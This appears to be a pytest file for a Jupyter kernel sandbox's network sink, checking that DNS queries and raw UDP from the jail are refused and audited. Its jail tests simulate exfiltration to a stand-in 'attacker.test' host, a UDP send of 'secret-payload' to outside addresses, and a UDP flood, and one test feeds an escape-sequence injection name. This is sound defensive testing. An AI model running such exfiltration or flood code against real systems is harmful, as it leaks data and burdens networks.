"""The jail's network sink (cellblock.egress.sink): a raw UDP packet and a DNS query from
the jail are refusals the host audits with their reason, on every profile.

Before the sink, both failed inside the jail (no route, no resolver) and the host never
knew: these tests fail there (no ``net.denied`` event).
"""

from __future__ import annotations

import struct
from typing import Any

import pytest
from test_lifecycle import run_cell

from cellblock.egress.sink import MAX_EVENTS, describe, dns_question

from conftest import audit_events, wait_for


def _query(name: bytes, qtype: int = 1) -> bytes:
    labels = b"".join(bytes([len(p)]) + p for p in name.split(b".")) + b"\0"
    return struct.pack("!HHHHHH", 0x1234, 0x0100, 1, 0, 0, 0) + labels + \
        struct.pack("!HH", qtype, 1)


# -- the parser, on what the jail can send ----------------------------------------------


def test_dns_question_reads_name_and_type() -> None:
    assert dns_question(_query(b"pypi.test", 28)) == ("pypi.test", "AAAA")
    assert dns_question(_query(b"a.b", 4242)) == ("a.b", "4242")


@pytest.mark.parametrize("payload", [
    b"", b"q", b"\0" * 11,
    _query(b"x")[:14],  # cut inside the name
    _query(b"x")[:-3],  # cut inside the type
    struct.pack("!HHHHHH", 1, 0x8180, 1, 0, 0, 0) + b"\1x\0\0\1\0\1",  # a response
    struct.pack("!HHHHHH", 1, 0x0100, 0, 0, 0, 0) + b"\1x\0\0\1\0\1",  # no question
    struct.pack("!HHHHHH", 1, 0x0100, 1, 0, 0, 0) + b"\xc0\x0c\0\1\0\1",  # a pointer
    struct.pack("!HHHHHH", 1, 0x0100, 1, 0, 0, 0) + b"\1x" * 200 + b"\0\0\1\0\1",
], ids=["empty", "one byte", "header only", "cut in the name", "cut in the type",
        "a response", "no question", "a pointer", "too many labels"])
def test_dns_question_refuses_what_is_not_a_query(payload: bytes) -> None:
    assert dns_question(payload) is None


def test_names_from_the_jail_are_escaped_in_the_audit() -> None:
    fields = describe("127.0.0.1", 53, _query(b"ev\nil\x1b[31m.test"))
    assert fields is not None
    assert fields["host"] == "ev\\x0ail\\x1b\\x5b31m.test"
    assert "\n" not in fields["reason"] and "\x1b" not in fields["reason"]


def test_loopback_datagrams_are_the_jails_own_business() -> None:
    assert describe("127.0.0.1", 9999, b"x") is None
    assert describe("::1", 9999, b"x") is None
    assert describe("127.0.0.1", 53, b"not dns") is None
    udp = describe("10.1.2.3", 9999, b"xy")
    assert udp is not None and udp["via"] == "udp" and udp["bytes"] == 2
    assert "10.1.2.3 port 9999" in udp["reason"]


# -- real jails ---------------------------------------------------------------------------

def _denied(kernel_id: str, via: str) -> list[dict[str, Any]]:
    return [e.fields for e in audit_events(kernel_id) if e.event == "net.denied"
            and e.fields.get("via") == via]


@pytest.mark.jail
@pytest.mark.nonroot
async def test_dns_and_raw_udp_from_the_jail_are_audited_refusals(
        no_leftovers: None, kernel: tuple[Any, Any]) -> None:
    km, kc = kernel
    code = """
import socket, errno
try:
    socket.getaddrinfo("exfil-0123.attacker.test", 443)
    print("RESOLVED")
except socket.gaierror as e:
    print("dns refused", e.errno)
for fam, addr in ((socket.AF_INET, ("8.8.8.8", 9999)), (socket.AF_INET6, ("2001:db8::7", 9998))):
    u = socket.socket(fam, socket.SOCK_DGRAM)
    try:
        u.sendto(b"secret-payload", addr)
        print("sent", addr[0])
    except OSError as e:
        print("udp refused", addr[0], errno.errorcode.get(e.errno))
l = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
l.bind(("127.0.0.1", 0))
socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"own", l.getsockname())
print(l.recv(10))
"""
    out = await run_cell(kc, code)
    assert "RESOLVED" not in out["stdout"], out
    assert "b'own'" in out["stdout"], out  # the jail's own loopback still works
    kid = km.kernel_id
    assert wait_for(lambda: _denied(kid, "dns") and len(_denied(kid, "udp")) >= 1, 10), \
        [e.event for e in audit_events(kid)]
    dns = _denied(kid, "dns")
    assert any(d["host"] == "exfil-0123.attacker.test" for d in dns), dns
    assert all("the jail has no resolver" in d["reason"] for d in dns), dns
    udp = _denied(kid, "udp")
    assert any(u["address"] == "8.8.8.8" and u["port"] == 9999 and u["bytes"] == 14
               for u in udp), udp
    assert all("the jail has no network but the egress proxy" in u["reason"] for u in udp)
    assert not any(u["port"] not in (9999, 9998) for u in udp), udp  # not its own loopback
    # and nothing the jail sent reached the audit log as payload
    assert not any("secret-payload" in str(e.fields) for e in audit_events(kid))


@pytest.mark.jail
@pytest.mark.nonroot
async def test_a_udp_flood_is_counted_not_written_and_the_kernel_still_answers(
        jupyter_env: dict[str, str], no_leftovers: None) -> None:
    from jupyter_client.manager import AsyncKernelManager

    km = AsyncKernelManager(kernel_name="cellblock-agent")
    await km.start_kernel()
    kc = km.client()
    kc.start_channels()
    n = MAX_EVENTS * 10
    try:
        await kc.wait_for_ready(timeout=60)
        out = await run_cell(kc, f"""
import socket
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for i in range({n}):
    u.sendto(b"x", ("192.0.2.1", 1000 + i % 50))
print("done")
""", timeout=120)
        assert out["stdout"].strip() == "done", out
        kid = km.kernel_id
        assert wait_for(lambda: len(_denied(kid, "udp")) >= MAX_EVENTS, 20)
        out = await run_cell(kc, "print(1 + 1)")
        assert out["stdout"].strip() == "2"
    finally:
        kc.stop_channels()
        await km.shutdown_kernel(now=False)
    written = _denied(kid, "udp")
    assert len(written) == MAX_EVENTS, len(written)
    counts = [e.fields for e in audit_events(kid) if e.event == "net.denied_count"]
    assert counts and counts[-1]["via"] == "sink", counts
    # the kernel may drop some of a flood (the socket's buffer): counted is at most sent
    assert MAX_EVENTS < counts[-1]["denied"] <= n, counts
